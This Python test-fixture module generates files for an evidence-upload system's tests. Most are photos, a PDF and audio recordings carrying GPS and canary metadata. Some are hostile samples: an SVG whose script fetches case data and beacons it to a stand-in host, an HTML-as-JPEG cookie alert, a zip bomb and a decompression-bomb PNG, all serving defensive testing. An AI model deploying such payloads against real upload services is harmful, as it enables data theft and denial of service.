"""Real files for the evidence tests, made on the spot: photos with GPS in their EXIF, a PDF,
recordings, and the hostile ones (SVG with script, HTML named .jpg, a zip bomb, a
decompression-bomb PNG, archives, a video in an audio container).

Every "canary" below is a string that must never be found in plaintext on disk, and never in
an image once its metadata has been stripped.
"""

from __future__ import annotations

import importlib
import io
import math
import struct
import wave
import zipfile
import zlib
from typing import Any

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

CANARY_CAMERA = "CANARY-CAMERA-Fatima-phone"
CANARY_COMMENT = b"CANARY-COMMENT-Fatima"
CANARY_XMP = b"CANARY-XMP-Fatima"
CANARY_PNG_TEXT = "CANARY-PNG-TEXT-Fatima"
CANARY_PDF = b"CANARY-PDF-TEXT-Fatima-Tazi"
CANARIES = (
    CANARY_CAMERA.encode(),
    CANARY_COMMENT,
    CANARY_XMP,
    CANARY_PNG_TEXT.encode(),
    CANARY_PDF,
    b"CANARY",
)

RED = (220, 20, 20)
BLUE = (20, 20, 220)
GPS_LATITUDE = (33.0, 35.0, 12.0)


def two_colour_image(width: int = 64, height: int = 48) -> Image.Image:
    """Left half red, right half blue: shows where the picture's left edge ended up."""
    image = Image.new("RGB", (width, height), BLUE)
    image.paste(RED, (0, 0, width // 2, height))
    return image


def exif_with_gps(*, orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "CANARY"
    exif[ExifTags.Base.Model] = CANARY_CAMERA
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (7.0, 36.0, 5.0)
    return exif


def jpeg_with_gps(*, orientation: int | None = 6) -> bytes:
    """A phone photo: EXIF with camera and GPS (rotated 90° by the orientation tag), a JPEG
    comment and an XMP packet, each carrying a canary."""
    out = io.BytesIO()
    two_colour_image().save(
        out,
        "JPEG",
        quality=95,
        exif=exif_with_gps(orientation=orientation),
        comment=CANARY_COMMENT,
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + CANARY_XMP + b"</x:xmpmeta>",
    )
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngInfo()
    info.add_text("Comment", CANARY_PNG_TEXT)
    info.add_text("Author", CANARY_PNG_TEXT, zip=True)
    out = io.BytesIO()
    two_colour_image().save(out, "PNG", pnginfo=info, exif=exif_with_gps())
    return out.getvalue()


def webp_with_gps() -> bytes:
    out = io.BytesIO()
    two_colour_image().save(out, "WEBP", quality=90, exif=exif_with_gps())
    return out.getvalue()


def noisy_jpeg(size: int) -> bytes:
    """A JPEG of random noise at least ``size`` bytes long (noise does not compress)."""
    side = max(64, int(math.sqrt(size)))
    while True:
        out = io.BytesIO()
        Image.effect_noise((side, side), 120).convert("RGB").save(out, "JPEG", quality=100)
        if out.tell() >= size:
            return out.getvalue()
        side = int(side * 1.3)


def pdf_with_text(*, padding: int = 0) -> bytes:
    """A small valid PDF whose page shows a canary in plain text (uncompressed stream)."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + CANARY_PDF + b") Tj ET"
    if padding:
        stream += b"\n%" + b"x" * padding
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def wav_recording() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(2)
        recording.setframerate(8000)
        recording.writeframes(b"\x00\x01" * 8000)
    return out.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_file(*handlers: bytes, brand: bytes = b"M4A ") -> bytes:
    """An ISO base media file with one track per handler type (``soun``, ``vide``)."""
    ftyp = _box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand + b"isom")
    tracks = b"".join(
        _box(
            b"trak",
            _box(b"mdia", _box(b"hdlr", b"\x00" * 8 + handler + b"\x00" * 12 + b"sound\x00")),
        )
        for handler in handlers
    )
    return ftyp + _box(b"moov", tracks) + _box(b"mdat", b"\x00" * 64)


def heic_photo() -> bytes:
    return _box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + _box(b"meta", b"\x00" * 32)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"
    b"</script><rect width='10' height='10'/></svg>"
)
HTML_AS_JPEG = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 64
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def zip_bomb(uncompressed: int = 64 * 1024 * 1024) -> bytes:
    """A ZIP archive holding ``uncompressed`` bytes of zeros in a few tens of kilobytes."""
    out = io.BytesIO()
    chunk = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("photo.jpg", "w", force_zip64=True) as member,
    ):
        for _ in range(uncompressed // len(chunk)):
            member.write(chunk)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(side: int) -> bytes:
    """A genuine, valid 1-bit PNG of ``side`` × ``side`` pixels, all black: megapixels (and
    hundreds of megabytes once decoded) in a file of a few kilobytes."""
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    idat = b"".join(parts)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


# --- recordings with the tags a phone or an editor writes ----------------------------------


def _mutagen(module: str) -> Any:
    """A mutagen module, typed loosely: most of its functions carry no annotations."""
    return importlib.import_module(f"mutagen.{module}")


#: In every tag of the tagged recordings below; never in a stored recording.
CANARY_AUDIO = "CANARY-AUDIO-Fatima-Tazi"
#: ISO 6709, as phones write the recording location (Casablanca).
CANARY_LOCATION = "+33.5731-007.5898/"
AUDIO_CANARIES = (b"CANARY-AUDIO", CANARY_LOCATION.encode(), b"Fatima")


def wav_frames() -> bytes:
    """One second of 8 kHz 16-bit mono: a ramp, so that a moved or lost sample shows."""
    return b"".join(struct.pack("<h", (i * 37) % 20000 - 10000) for i in range(8000))


def _riff_chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


def tagged_wav() -> bytes:
    """A WAV as an editor saves it: LIST/INFO (title, artist, comment, date, software) and a
    Broadcast WAV ``bext`` chunk in front of the samples, an ``id3 `` chunk after them."""
    out = io.BytesIO()
    with wave.open(out, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(2)
        recording.setframerate(8000)
        recording.writeframes(wav_frames())
    plain = out.getvalue()
    info = b"INFO" + b"".join(
        _riff_chunk(key, f"{CANARY_AUDIO} {key.decode()}\x00".encode())
        for key in (b"INAM", b"IART", b"ICMT", b"ICRD", b"ISFT")
    )
    bext = (CANARY_AUDIO.encode() + b" originator").ljust(602, b"\x00")
    chunks = plain[12:]
    fmt_end = 8 + struct.unpack("<I", chunks[4:8])[0]
    body = (
        chunks[:fmt_end]
        + _riff_chunk(b"LIST", info)
        + _riff_chunk(b"bext", bext)
        + chunks[fmt_end:]
    )
    riff = b"WAVE" + body
    tagged = io.BytesIO(b"RIFF" + struct.pack("<I", len(riff)) + riff)
    id3 = _mutagen("id3")
    recording_file = _mutagen("wave").WAVE(tagged)
    recording_file.add_tags()
    recording_file.tags.add(id3.TIT2(encoding=3, text=[CANARY_AUDIO]))
    recording_file.tags.add(id3.TXXX(encoding=3, desc="location", text=[CANARY_LOCATION]))
    tagged.seek(0)
    recording_file.save(tagged)
    return tagged.getvalue()


MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 413


def mp3_recording(count: int = 8) -> bytes:
    """MPEG-1 Layer III frames, 128 kbit/s, 44.1 kHz (417 bytes each) of silence, each one
    numbered in its last bytes so that a lost or moved frame shows."""
    return b"".join(MP3_FRAME[:-2] + struct.pack(">H", n) for n in range(count))


def tagged_mp3() -> bytes:
    """MPEG frames with an ID3v2.4 tag in front (title, artist, date, comment, a TXXX
    location), and an APEv2 and an ID3v1 tag at the end, as taggers write them."""
    id3 = _mutagen("id3")

    out = io.BytesIO(mp3_recording())
    # APEv2 first, then ID3 (v1 appended after it): the order taggers leave at the end.
    ape = _mutagen("apev2").APEv2()
    ape["Artist"] = CANARY_AUDIO
    ape.save(out)
    tags = id3.ID3()
    tags.add(id3.TIT2(encoding=3, text=[CANARY_AUDIO]))
    tags.add(id3.TPE1(encoding=3, text=["Fatima"]))
    tags.add(id3.TDRC(encoding=3, text=["2026-11-28"]))
    tags.add(id3.COMM(encoding=3, lang="fra", desc="", text=[CANARY_AUDIO]))
    tags.add(id3.TXXX(encoding=3, desc="location", text=[CANARY_LOCATION]))
    out.seek(0)
    tags.save(out, v1=2)
    return out.getvalue()


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
            crc &= 0xFFFFFFFF
    return crc


def _ogg_page(packet: bytes, *, sequence: int, granule: int, flags: int) -> bytes:
    lacing = [255] * (len(packet) // 255) + [len(packet) % 255]
    header = (
        b"OggS"
        + bytes([0, flags])
        + struct.pack("<qIII", granule, 0x48494D41, sequence, 0)
        + bytes([len(lacing), *lacing])
    )
    page = header + packet
    return page[:22] + struct.pack("<I", _ogg_crc(page)) + page[26:]


#: Opus packets of 20 ms each (a TOC byte, then the frame): numbered so a lost one shows.
OPUS_PACKETS = [bytes([0xF8, n, 0x55, 0xAA]) for n in range(10)]


def ogg_opus_recording(*, comments: tuple[tuple[str, str], ...] = ()) -> bytes:
    """An Ogg Opus voice note (as WhatsApp sends them): OpusHead, OpusTags with the given
    comments, then the audio packets, one page each, with their CRCs."""
    head = b"OpusHead" + bytes([1, 1]) + struct.pack("<HIhB", 312, 48000, 0, 0)
    vendor = b"libopus 1.3"
    entries = [f"{key}={value}".encode() for key, value in comments]
    opus_tags = (
        b"OpusTags"
        + struct.pack("<I", len(vendor))
        + vendor
        + struct.pack("<I", len(entries))
        + b"".join(struct.pack("<I", len(e)) + e for e in entries)
    )
    pages = [
        _ogg_page(head, sequence=0, granule=0, flags=2),
        _ogg_page(opus_tags, sequence=1, granule=0, flags=0),
    ]
    for n, packet in enumerate(OPUS_PACKETS):
        last = n == len(OPUS_PACKETS) - 1
        pages.append(
            _ogg_page(packet, sequence=2 + n, granule=960 * (n + 1), flags=4 if last else 0)
        )
    return b"".join(pages)


def tagged_ogg_opus() -> bytes:
    return ogg_opus_recording(
        comments=(
            ("TITLE", CANARY_AUDIO),
            ("ARTIST", "Fatima"),
            ("DATE", "2026-11-28"),
            ("LOCATION", CANARY_LOCATION),
        )
    )


def _full_box(kind: bytes, version: int, payload: bytes) -> bytes:
    return _box(kind, bytes([version, 0, 0, 0]) + payload)


M4A_SAMPLES = [bytes([0x21, n]) + b"\x5a" * 30 for n in range(6)]
#: 2026-11-28 in seconds since 1904, as a phone writes in the movie and track headers.
M4A_DATE = 3_847_392_000


def m4a_recording(*, tagged: bool = False) -> bytes:
    """An AAC recording in an M4A file with what a player needs (movie, track and media
    headers, a sample table pointing into ``mdat``) and, when ``tagged``, what phones add:
    creation dates, a ``©xyz`` location and QuickTime ``meta`` keys (make, model, location)
    in the movie, a ``udta`` on the track, then iTunes tags written by mutagen, and a
    ``free`` box left holding old tags."""
    date = M4A_DATE if tagged else 0
    mvhd = _full_box(
        b"mvhd",
        0,
        struct.pack(">IIII", date, date, 1000, 128)
        + b"\x00\x01\x00\x00\x01\x00"
        + b"\x00" * 10
        + b"\x00\x01\x00\x00"
        + b"\x00" * 12
        + b"\x00\x01\x00\x00"
        + b"\x00" * 12
        + b"\x40\x00\x00\x00"
        + b"\x00" * 24
        + struct.pack(">I", 2),
    )
    tkhd = _full_box(
        b"tkhd",
        0,
        struct.pack(">IIIII", date, date, 1, 0, 128)
        + b"\x00" * 8
        + b"\x00\x00\x00\x00\x01\x00\x00\x00"
        + b"\x00\x01\x00\x00"
        + b"\x00" * 12
        + b"\x00\x01\x00\x00"
        + b"\x00" * 12
        + b"\x40\x00\x00\x00"
        + b"\x00" * 8,
    )
    mdhd = _full_box(b"mdhd", 0, struct.pack(">IIIIHH", date, date, 8000, 1024 * 6, 0x55C4, 0))
    hdlr = _full_box(b"hdlr", 0, b"\x00" * 4 + b"soun" + b"\x00" * 12 + b"SoundHandler\x00")
    esds = _full_box(
        b"esds",
        0,
        bytes.fromhex("03190000000411401500000000000000000000000000000000000000000000000000"),
    )
    mp4a = _box(
        b"mp4a",
        b"\x00" * 6
        + struct.pack(">H", 1)
        + b"\x00" * 8
        + struct.pack(">HHHHI", 1, 16, 0, 0, 8000 << 16)
        + esds,
    )
    stsd = _full_box(b"stsd", 0, struct.pack(">I", 1) + mp4a)
    stts = _full_box(b"stts", 0, struct.pack(">III", 1, len(M4A_SAMPLES), 1024))
    stsc = _full_box(b"stsc", 0, struct.pack(">IIII", 1, 1, len(M4A_SAMPLES), 1))
    stsz = _full_box(
        b"stsz",
        0,
        struct.pack(">II", 0, len(M4A_SAMPLES))
        + b"".join(struct.pack(">I", len(s)) for s in M4A_SAMPLES),
    )

    def build(offset: int) -> bytes:
        stco = _full_box(b"stco", 0, struct.pack(">II", 1, offset))
        stbl = _box(b"stbl", stsd + stts + stsc + stsz + stco)
        # One data reference, flagged "in this file".
        dinf = _box(
            b"dinf", _full_box(b"dref", 0, struct.pack(">I", 1) + _box(b"url ", b"\0\0\0\1"))
        )
        minf = _box(b"minf", _full_box(b"smhd", 0, b"\x00" * 4) + dinf + stbl)
        track_tags = _box(b"udta", _box(b"name", CANARY_AUDIO.encode())) if tagged else b""
        trak = _box(b"trak", tkhd + _box(b"mdia", mdhd + hdlr + minf) + track_tags)
        movie_tags = b""
        if tagged:
            xyz = struct.pack(">HH", len(CANARY_LOCATION), 0x15C7) + CANARY_LOCATION.encode()
            keys = _full_box(
                b"keys",
                0,
                struct.pack(">I", 2)
                + _box(b"mdta", b"com.apple.quicktime.make")
                + _box(b"mdta", b"com.apple.quicktime.location.ISO6709"),
            )
            ilst = _box(
                b"ilst",
                _box(
                    b"\x00\x00\x00\x01",
                    _box(b"data", b"\x00\x00\x00\x01\x00\x00\x00\x00" + CANARY_AUDIO.encode()),
                )
                + _box(
                    b"\x00\x00\x00\x02",
                    _box(b"data", b"\x00\x00\x00\x01\x00\x00\x00\x00" + CANARY_LOCATION.encode()),
                ),
            )
            qt_meta = _box(
                b"meta",
                _full_box(b"hdlr", 0, b"\x00" * 4 + b"mdta" + b"\x00" * 13) + keys + ilst,
            )
            movie_tags = _box(b"udta", _box(b"\xa9xyz", xyz)) + qt_meta
        moov = _box(b"moov", mvhd + trak + movie_tags)
        return ftyp + moov

    ftyp = _box(b"ftyp", b"M4A \x00\x00\x02\x00M4A isomiso2")
    head = build(0)
    head = build(len(head) + 8)
    mdat = _box(b"mdat", b"".join(M4A_SAMPLES))
    data = head + mdat
    if not tagged:
        return data
    out = io.BytesIO(data)
    recording = _mutagen("mp4").MP4(out)
    recording.add_tags()
    recording.tags["\xa9nam"] = [CANARY_AUDIO]
    recording.tags["\xa9ART"] = ["Fatima"]
    recording.tags["\xa9day"] = ["2026-11-28"]
    recording.tags["\xa9too"] = [CANARY_AUDIO + " recorder"]
    out.seek(0)
    recording.save(out)
    return out.getvalue() + _box(b"free", b"\xa9nam" + CANARY_AUDIO.encode())
